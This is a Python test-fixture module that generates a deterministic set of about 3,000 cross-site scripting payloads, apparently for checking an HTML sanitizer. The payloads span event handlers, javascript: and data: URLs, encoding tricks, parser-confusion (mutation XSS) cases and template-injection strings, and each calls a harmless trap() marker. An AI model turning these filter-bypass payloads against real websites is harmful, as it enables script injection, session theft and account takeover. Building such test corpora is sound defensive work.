"""Texts that try to run a script: each calls `trap()`, in the ways that attackers have found and published.

Tags × events, addresses × attributes, texts that a parser reads in two ways, and all of that spelt so that a filter
would pass it over. `texts()` gives each once, and the same ones each time.
"""

import base64
from collections.abc import Iterator
from itertools import product
from random import Random

SCRIPT = "trap()"
# The same call, spelt otherwise.
CALLS = [
    *(SCRIPT, "&#116;rap()", "&#x74;&#x72;ap&lpar;&rpar;", "\\u0074rap()", "trap``", "top['tr'+'ap']()", "(0,trap)()"),
    *(
        "window[`trap`]()",
        "eval('tra'+'p()')",
        "setTimeout('trap()')",
        "[1].map(trap)",
        "new Function`trap\\`\\``",
        "//\ntrap()",
    ),
    *("/*a*/trap/*b*/()", "throw onerror=trap,1", "Reflect.apply(trap,0,[])", "{trap()}", "void(trap())", ";;trap();;"),
]
TAGS = (
    "img svg body video audio details input select textarea button marquee iframe object embed math a p div style "
    "table form keygen isindex blink b x-y frameset link meta base applet animate set image picture source track "
    "area td dialog summary label fieldset canvas progress bgsound layer font center listing h1 figure portal slot"
).split()
EVENTS = [
    *("onerror", "onload", "onclick", "onmouseover", "onpointerover", "onbegin", "onstart", "onscroll", "onwheel"),
    *("onanimationstart", "ontransitionend", "oncopy", "onpaste", "ondrag", "onkeydown", "onsubmit", "onresize"),
    *("onfocus", "onfocusin", "onblur", "ontoggle", "onbeforetoggle", "oncanplay", "onloadstart", "onplay"),
    *("onpageshow", "onhashchange", "onmessage", "onsearch", "oninput", "onchange", "oninvalid", "onbeforematch"),
]
EXTRA = " src=x href=x open autofocus tabindex=0 contenteditable draggable=true style=animation:x"
SHAPES = [
    "<{tag}{extra} {event}={call}>",
    '<{tag}{extra} {event}="{call}">',
    "<{tag}{extra} {event}='{call}'>x</{tag}>",
    "<{tag}/{event}={call}/src=x>",
    '<{tag}\n{event}\n=\n"{call}"\nsrc=x>',
    "<{tag}\t{event}={call}\tsrc=x autofocus",
    "<{tag}\f{event}={call} src=x>",
    '<{upper}{extra} {mixed}="{call}">',
    "<{tag} a='>' {event}={call}{extra}>",
    '<{tag} a=">" b=\'"\' {event}="{call}"{extra}>',
    "<{tag} {event}={call} {event}=1{extra}>",
    '<{tag}{extra} "{event}"={call} {event}={call}>',
    "<{tag}{extra} x`{event}={call}>",
    "<<{tag}{extra} {event}={call}//<",
    "<{tag}\x00{extra} {event}={call}>",
    "<\x00{tag}{extra} {event}\x00={call}>",
    "<{tag}{extra} on\x0bload=x {event}\x0b={call} {event}={call}>",
    "<p><{tag}{extra} {event}={call}></p>",
    "<table><{tag}{extra} {event}={call}></table>",
    "<svg><{tag}{extra} {event}={call}></svg>",
    "<math><mtext><{tag}{extra} {event}={call}></math>",
    "<!--><{tag}{extra} {event}={call}>-->",
    "<a title='</a><{tag}{extra} {event}={call}>'>x</a>",
    "&lt;{tag}{extra} {event}={call}&gt;<{tag}{extra} {event}={call}>",
]
# Ways to write the scheme of an address that runs.
ADDRESSES = [
    *("javascript:trap()", "JaVaScRiPt:trap()", " javascript:trap()", "\x01javascript:trap()", "java\tscript:trap()"),
    *("java\nscript:trap()", "java&#9;script:trap()", "java&Tab;script&colon;trap()", "javascript&#58;trap()"),
    *("&#106;avascript:trap()", "&#x6A;&#x61;vascript:trap()", "&#0000106avascript:trap()", "javascript&#x3A;trap()"),
    *("javascript:%74rap()", "javascript://%0atrap()", "javascript://x.example/%0d%0atrap()", "javascript:/**/trap()"),
    *("&NewLine;javascript:trap()", "\u00a0javascript:trap()", "\ufeffjavascript:trap()", "\u2028javascript:trap()"),
    *("javascript\x00:trap()", "java\x00script:trap()", "view-source:javascript:trap()", "feed:javascript:trap()"),
    *("vbscript:trap()", "livescript:trap()", "mocha:trap()", "jar:javascript:trap()", "blob:javascript:trap()"),
    *(
        "data:text/html,<script>trap()</script>",
        "data:image/svg+xml,<svg onload=trap() xmlns='http://www.w3.org/2000/svg'/>",
    ),
    "data:text/html;base64," + base64.b64encode(b"<script>parent.trap()</script>").decode(),
    *("DATA:text/html;charset=utf-7,+ADw-script+AD4-trap()+ADw-/script+AD4-", "data:text/javascript,trap()"),
    *("http:javascript:trap()", "javascript:'<svg onload=trap()>'", "\\javascript:trap()", "javascript\\:trap()"),
    *("mailto:javascript:trap()", '//x.example/"onclick=trap() x="', "x' onclick='trap()", 'x" onclick="trap()'),
]
PLACES = [
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<img src="{}">',
    '<img src="x" srcset="{} 1x">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><input type=submit></form>',
    '<button formaction="{}">x</button>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<map><area href="{}"></map>',
    '<base href="{}//">',
    '<link rel=stylesheet href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<video poster="{}" src="{}"></video>',
    '<input type=image src="{}">',
    '<table background="{}"><td>x</table>',
    '<blockquote cite="{}">x</blockquote>',
    '<a href="/x" ping="{}">x</a>',
    '<svg><use href="{}"/></svg>',
    '<svg><animate attributeName=href values="{}"/></svg>',
    '<script src="{}"></script>',
    '<p style="background:url({})">x</p>',
    '<figure><img src="{}" alt="x"></figure>',
    '<a target=_self href="{}"><b>x',
]
# What is read in one way and, put down again, in another; and what closes what it never opened.
BREAKERS = [
    "<script>{0}</script>",
    "<ScRiPt\n>{0}</sCrIpT\t>",
    "<script/x>{0}</script/x>",
    "<script>{0}",
    "<scr<script>ipt>{0}</script>",
    "<svg><script>{0}</script></svg>",
    "<svg><script href='data:text/javascript,{0}'/>",
    "<script type=module>{0}</script>",
    "<style>@import 'javascript:{0}';</style>",
    "<style><img src=x onerror={0}></style>",
    "<style></style><img src=x onerror={0}>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<noembed><img title='</noembed><img src=x onerror={0}>'>",
    "<title><img title='</title><img src=x onerror={0}>'></title>",
    "<textarea><img title='</textarea><img src=x onerror={0}>'>",
    "<xmp><p title='</xmp><img src=x onerror={0}>'>",
    "<plaintext><img src=x onerror={0}>",
    "<listing>&lt;img src=x onerror={0}&gt;</listing>",
    "<template><img src=x onerror={0}></template>",
    "<template shadowrootmode=open><img src=x onerror={0}></template>",
    "<iframe srcdoc='<img src=x onerror=parent.{0}>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;parent.{0}&lt;/script&gt;></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={0}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={0}>",
    "<svg></p><style><a id='</style><img src=x onerror={0}>'>",
    "<svg><p><style><img src=x onerror={0}></style>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror={0}></style></annotation-xml></math>",
    "<svg><foreignObject><iframe srcdoc='<img src=x onerror=top.{0}>'></iframe></foreignObject></svg>",
    "<svg><desc><noscript><img src=x onerror={0}></noscript></desc></svg>",
    "<math><mi//xlink:href='data:x,<script>{0}</script>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={0}>'>",
    "<select><iframe><select><img src=x onerror={0}>",
    "<table><caption><svg><style></table><img src=x onerror={0}>",
    "<!--<img src='--><img src=x onerror={0}>'>",
    "<!--!><img src=x onerror={0}>-->",
    "<!--a--!><img src=x onerror={0}>",
    "<!---><img src=x onerror={0}>--->",
    "<![CDATA[<img src=x onerror={0}>]]>",
    "<svg><![CDATA[><img src=x onerror={0}>]]></svg>",
    "<?xml version='1.0'?><img src=x onerror={0}>",
    "<?<img src=x onerror={0}>?>",
    "<!DOCTYPE x [<!ENTITY x '<img src=x onerror={0}>'>]>&x;",
    "</p><img src=x onerror={0}>",
    "</div></section></article></main><script>{0}</script>",
    "</script><script>{0}</script>",
    "'\"></a><img src=x onerror={0}>",
    '"><svg/onload={0}>',
    "'-{0}-'",
    '";{0};//',
    "</title></style></textarea><svg onload={0}>",
    "<a href='x'><a href='y'><img src=x onerror={0}></a></a>",
    "<b><p></b><img src=x onerror={0}>",
    "<p/<img src=x onerror={0}>",
    '<img src="x` `<script>{0}</script>"` `>',
    "<img src='x\\' onerror={0} '>",
    "<img alt='\\'><img src=x onerror={0}>'>",
    '<img alt="&quot;&gt;&lt;img src=x onerror={0}&gt;" src=x>',
    "<a title='&#39; onclick=&#39;{0}'>x</a>",
    "<p id=x onclick={0}>x</p>",
    "<div is=x-y class='entry' data-part=head_html onclick={0}>x</div>",
    "<object><param name=movie value='javascript:{0}'></object>",
    "<svg><set attributeName=onmouseover to={0}>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<body background=javascript:{0}>",
    "<xss style='behavior:url(x)' onclick={0}>",
    "<p style='width:expression({0})'>x</p>",
    "<img style='xss:expr/*x*/ession({0})'>",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "\xbcscript\xbe{0}\xbc/script\xbe",
    "＜script＞{0}＜/script＞",
    "%3Cscript%3E{0}%3C/script%3E",
    '<a href="&#1;javascript:{0}">x</a>',
    '<a href="javas&Tab;cript:{0}">x</a>',
    "<img src=x:x onerror\x00={0}>",
    "[x](javascript:{0})",
    '![x](x"onerror="{0})',
    "<javascript:{0}>",
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "{{% {0} %}}",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>",
    "<details open ontoggle={0}>x</details>",
    "<link rel=import href='data:text/html,<script>{0}</script>'>",
    "<embed code='javascript:{0}' allowscriptaccess=always>",
    "<button popovertarget=x>y</button><p popover id=x onbeforetoggle={0}>z</p>",
    "<input onfocus={0} autofocus><input autofocus>",
    "<ruby><rp><style></ruby><img src=x onerror={0}>",
    "<frameset onload={0}>",
    "<option><style></option></select><img src=x onerror={0}></style>",
]
MOST = 3_000


def texts() -> Iterator[str]:
    random = Random(17)  # noqa: S311  # which ones, out of millions
    made = dict.fromkeys(shape.format(call) for shape, call in product(BREAKERS, random.sample(CALLS, 4) + CALLS[:2]))
    made |= dict.fromkeys(place.replace("{}", address) for place, address in product(PLACES, ADDRESSES))
    while len(made) < MOST:
        tag, event = random.choice(TAGS), random.choice(EVENTS)
        mixed = "".join(random.choice([sign.upper(), sign]) for sign in event)
        words = {"tag": tag, "upper": tag.upper(), "event": event, "mixed": mixed, "extra": EXTRA}
        made[random.choice(SHAPES).format(call=random.choice(CALLS), **words)] = None
    return iter(made)
